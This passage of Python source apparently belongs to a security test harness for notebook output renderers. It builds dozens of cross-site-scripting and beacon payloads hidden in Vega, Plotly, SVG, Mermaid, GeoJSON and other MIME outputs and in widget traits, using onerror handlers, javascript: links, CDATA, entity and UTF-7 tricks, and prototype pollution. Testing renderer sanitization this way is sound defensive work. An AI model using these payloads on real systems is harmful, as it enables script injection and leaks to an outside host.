            **_BAR,
            "params": [{"name": "p", "select": {"type": "point", "on": "body:keydown"}}],
            "data": {"url": "BEACON/selected.json"},
        },
    ),
    "vega, an address loaded with the page's cookies": (
        _VEGA,
        {"signals": [{"name": "cursor", "value": "url(BEACON/cursor), auto"}]},
    ),
    "vega, a cursor of a mark": (_VEGA, _marked(cursor={"value": "url(BEACON/mark), auto"})),
    "vega, a cursor that is computed": (
        _VEGA,
        {"signals": [{"name": "cursor", "update": "'url(BEACON/computed), auto'"}]},
    ),
    "vega-lite, a cursor of a mark": (
        _LITE,
        {**_BAR, "mark": {"type": "bar", "cursor": "url(BEACON/lite), auto"}},
    ),
    "vega-lite, a cursor of all marks": (
        _LITE,
        {**_BAR, "config": {"mark": {"cursor": "url(BEACON/config), auto"}}},
    ),
    "vega-lite, a cursor of the view": (
        _LITE,
        {**_BAR, "view": {"cursor": "url(BEACON/view), auto"}},
    ),
    "vega-lite, a picture in a tooltip": (
        _LITE,
        {
            **_BAR,
            "data": {"values": [{"a": 1, "image": "BEACON/tip.png' onerror='HIT"}]},
            "mark": {"type": "bar", "tooltip": {"content": "data"}},
        },
    ),
    "vega-lite, a link": (
        _LITE,
        {**_BAR, "encoding": {"x": {"field": "a"}, "href": {"value": "javascript:HIT"}}},
    ),
    "vega-lite, a fill by an address": (
        _LITE,
        {**_BAR, "mark": {"type": "bar", "fill": "url(BEACON/fill.svg#x)"}},
    ),
    "vega-lite as text": (_LITE, "BEACON/spec.json"),
    "vega-lite, a schema by an address": (_LITE, {**_BAR, "$schema": "BEACON/schema/v5.json"}),
}


def _titled(text: str) -> dict[str, object]:
    return {"data": [{"y": [1, 2], "hovertemplate": text}], "layout": {"title": {"text": text}}}


_PLOTLY_CHARTS: dict[str, dict[str, object]] = {
    "plotly, an address in a label's style": _titled(
        '<span style="cursor:url(BEACON/cursor),auto">t</span>'
    ),
    "plotly, a filter in a label's style": _titled('<b style="filter:url(BEACON/f.svg#x)">t</b>'),
    "plotly, a script in a label": _titled("<a href='javascript:HIT' target='_top'>click</a>"),
    "plotly, a label over the page": _titled(
        '<span style="position:fixed;inset:0" id="pwned-overlay" onload="HIT">t</span>'
    ),
    "plotly, a picture": {
        "data": [{"type": "image", "source": "BEACON/image.png"}],
        "layout": {"images": [{"source": "BEACON/layout.png", "sizex": 1, "sizey": 1}]},
    },
    "plotly, a map": {
        "data": [{"type": "scattergeo", "lat": [1], "lon": [1]}],
        "layout": {"template": {"layout": {"map": {"style": "BEACON/style.json"}}}},
        "config": {"topojsonURL": "BEACON/topo/", "plotlyServerURL": "BEACON"},
    },
}


def chart_payloads(beacon: str) -> list[Payload]:
    """The charts alone; every sixth is plotly's."""
    charts: list[tuple[str, str, object]] = [
        (name, mime, spec) for name, (mime, spec) in _VEGA_CHARTS.items()
    ]
    for number, (name, figure) in enumerate(_PLOTLY_CHARTS.items()):
        charts.insert(number * 6 + 5, (name, _PLOTLY, figure))
    payloads = []
    for number, (name, mime, value) in enumerate(charts):
        code = f"display({{{mime!r}: {value!r}, 'text/plain': 'x'}}, raw=True)"
        code = code.replace("HIT", _in_literal(_HIT)).replace("NAME", f"c{number}")
        payloads.append(Payload(name, code.replace("BEACON", f"{beacon}/c{number}")))
    return payloads


# Kinds of output beside HTML: SVG, types that extensions draw, names, widgets' traits.
_SVG = {
    "handler behind a slash": '<svg xmlns="NS" width="9"/onload="HIT"></svg>',
    "handler of the root": '<svg xmlns="NS" onload="HIT"><rect width="9" height="9"/></svg>',
    "handler in capitals": '<SVG ONLOAD="HIT"></SVG>',
    "script": '<svg xmlns="NS"><script>HIT</script></svg>',
    "script with a prefix": '<x:svg xmlns:x="NS"><x:script>HIT</x:script></x:svg>',
    "script of another namespace": '<svg xmlns="NS"><script xmlns="urn:x">HIT</script></svg>',
    "script in CDATA": "<svg xmlns='NS'><desc><![CDATA[</desc><script>HIT</script>]]></desc></svg>",
    "script in a title": "<svg xmlns='NS'><title><img src='x' onerror=\"HIT\"/></title></svg>",
    "script behind a comment": "<svg xmlns='NS'><!--><script>HIT</script>--></svg>",
    "script behind an instruction": "<?x ><script>HIT</script>?><svg xmlns='NS'/>",
    "script of an entity": "<!DOCTYPE svg [<!ENTITY s '<script xmlns=\"NS\">HIT</script>'>]>"
    "<svg xmlns='NS'>&s;</svg>",
    "set that makes a link": "<svg xmlns='NS'><a id='a'><set attributeName='href' "
    "to='javascript:HIT'/><text y='20'>click</text></a></svg>",
    "animation that begins": "<svg xmlns='NS'><animate attributeName='x' dur='1s' onbegin='HIT'/>"
    "</svg>",
    "link": "<svg xmlns='NS' xmlns:xlink='http://www.w3.org/1999/xlink'>"
    "<a xlink:href='javascript:HIT'><text y='20'>click</text></a></svg>",
    "document": "<svg xmlns='NS'><foreignObject width='99' height='99'><iframe "
    "xmlns='http://www.w3.org/1999/xhtml' src='BEACON/svgframe'/></foreignObject></svg>",
    "use of another file": "<svg xmlns='NS'><use href='BEACON/use.svg#a'/></svg>",
    "picture": "<svg xmlns='NS'><image href='BEACON/svg.png' width='9' height='9'/></svg>",
    "style sheet": "<svg xmlns='NS'><style>@import 'BEACON/svg.css';body{--pwned:1}</style></svg>",
    "style sheet of an instruction": "<?xml-stylesheet href='BEACON/svgpi.css'?><svg xmlns='NS'/>",
    "address in a style": "<svg xmlns='NS'><rect width='9' height='9' "
    "style='fill:url(BEACON/paint.svg#a)'/></svg>",
    "over the page": "<svg xmlns='NS' id='pwned-overlay' style='position:fixed;inset:0'/>",
    "formula": "<svg xmlns='NS'><text y='9'>$\\href{javascript:HIT}{click}$</text></svg>",
    "half an encoding": "<?xml version='1.0' encoding='utf-7'?><svg xmlns='NS'><text>"
    "+ADw-script+AD4-HIT+ADw-/script+AD4-</text></svg>",
}
_TYPES: dict[str, object] = {
    "application/geo+json": {
        "type": "Feature",
        "properties": {"popupContent": "<img src=x onerror='HIT'>", "url_template": "BEACON/{z}"},
        "geometry": {"type": "Point", "coordinates": [0, 0]},
    },
    "text/vnd.mermaid": "flowchart TD\nA[\"<img src='BEACON/m.png' onerror='HIT'>\"]\n"
    'click A href "javascript:HIT"',
    "application/vnd.fasta.fasta": "> <img src=x onerror='HIT'>\nACGT",
    "application/vdom.v1+json": {"tagName": "img", "attributes": {"src": "BEACON/vdom.png"}},
    "application/vnd.jupyter.stderr": "<img src=x onerror='HIT'>\x1b]8;;javascript:HIT\x07x",
    "application/vnd.jupyter.error": {"ename": "<script>HIT</script>", "traceback": ["x"]},
    "text/x-html": "<script>HIT</script>",
    "text/vnd.plotly.v1+html": "<script>HIT</script>",
    "application/vnd.holoviews_exec.v0+json": "HIT",
    "text/javascript1.5": "HIT",
    "application/x-javascript": "HIT",
    "application/xhtml+xml": "<html xmlns='http://www.w3.org/1999/xhtml'><script>HIT</script></html>",
    "audio/wav": "x' onerror='HIT",
    "video/mp4": 'AAAA"><img src=x onerror=HIT>',
    "audio/x-mpegurl": "BEACON/list.m3u8",
    "application/vnd.dataresource+json": {
        "schema": {"fields": [{"name": "<img src=x onerror='HIT'>", "type": "string"}]},
        "data": [{"<img src=x onerror='HIT'>": "<script>HIT</script>"}],
    },
    "application/json": {
        "constructor": {"prototype": {"pwned": 1}},
        "<img src=x onerror='HIT'>": 1,
    },
}
_NAMES = {
    "name of an error with hidden characters": "raise type('Safe\u202e\u200b\u2028rorrE', (Exception,), "
    "{{}})('x')",
    "name of an error with a sequence": "raise type('E\x1b]8;;javascript:1\x07', (Exception,), {{}})('x')",
    "name of a type with hidden characters": "display({{'x/\u202e\U000e0041<script>': {hit}}}, raw=True)",
    "name of a display": "display('x', display_id={script})",
    "hidden text": "print(''.join(chr(0xE0000 + ord(c)) for c in {hit}))",
}
_TRAITS = {
    "label with a formula": "w.Label('$\\\\href{{javascript:1}}{{x}}\\\\class{{jp-Dialog}}{{x}}$')",
    "description with a formula": "w.Text(description='$\\\\class{{jp-Dialog}}{{x}}$')",
    "option with HTML": "w.ToggleButtons(options=[{handler}], icons=['x jp-Dialog'])",
    "title with HTML": "w.Tab([w.HTML({handler})], titles=[{handler}])",
    "colour with an address": "x = w.ColorsInput()\nx.set_trait('value', [])\ndisplay(x)\n"
    "x.comm.send({{'method': 'update', 'state': {{'value': ['url(BEACON/colour.png)']}}, "
    "'buffer_paths': []}})",
    "layout with an address": "w.Text(layout=dict(grid_area='url(BEACON/layout.png)', "
    "border='1px solid; position: fixed; background: url(BEACON/layout.png)'))",
    "widget of another class": "x = w.Text({handler})\nx._model_name = 'HTMLModel'\n"
    "x._view_name = '__proto__'\nx.send_state()\ndisplay(x)",
    "link into a formula": "a, b = w.Text('x'), w.Label('y')\nl = w.jslink((a, 'value'), (b, 'value'))\n"
    "display(w.VBox([a, b]))\na.value = '$\\\\class{{jp-Dialog}}{{x}}$'",
    "sound by address": "w.Audio(value=b'BEACON/audio.wav', format='url')",
}
_BUNDLES |= {
    f"svg, {name}": ({"image/svg+xml": svg.replace("NS", "http://www.w3.org/2000/svg")}, {})
    for name, svg in _SVG.items()
}
_BUNDLES |= {f"type {mime}": ({mime: value}, {}) for mime, value in _TYPES.items()}
_CODE |= _NAMES | _TRAITS
